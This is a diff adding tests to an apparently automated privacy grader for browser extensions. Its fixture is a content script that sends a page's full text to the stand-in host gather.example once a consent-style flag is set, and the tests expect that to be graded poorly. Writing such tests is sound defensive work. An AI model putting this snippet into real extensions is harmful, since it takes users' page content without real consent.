@@ -292,6 +292,21 @@ describe('what an interface of a framework is told', () => {
   });
 });
 
+describe('an agreement that a button of its own page gives', () => {
+  const parts = (name: string, read: string) => ({
+    content: `(async () => { const { ${name} } = await chrome.storage.local.get('${name}'); if (${name}) fetch('https://gather.example/', { method: 'POST', body: ${read} }); })();`,
+    popup: `document.getElementById('b').addEventListener('click', () => chrome.storage.local.set({ ${name}: true }));`,
+  });
+  it('to terms or to being counted gives away no content of pages', async () => {
+    for (const name of ['consent', 'termsAccepted', 'shareUsage', 'analyticsEnabled'])
+      expect(await graded(parts(name, 'document.body.innerText'))).toBe('D');
+    expect(await graded(parts('analyticsEnabled', 'location.host'))).toMatch(/^A/);
+  });
+  it('an option to send just that is another thing', async () => {
+    expect(await graded(parts('autoTranslate', 'document.body.innerText'))).toMatch(/^[AB]/);
+  });
+});
+
 describe('a listener that is bound to itself', () => {
   it('is none, and hides nothing', async () => {
     const background = `var own = own.bind(this); h('b', { onClick: own }); chrome.history.search({ text: '' }, (rows) =>
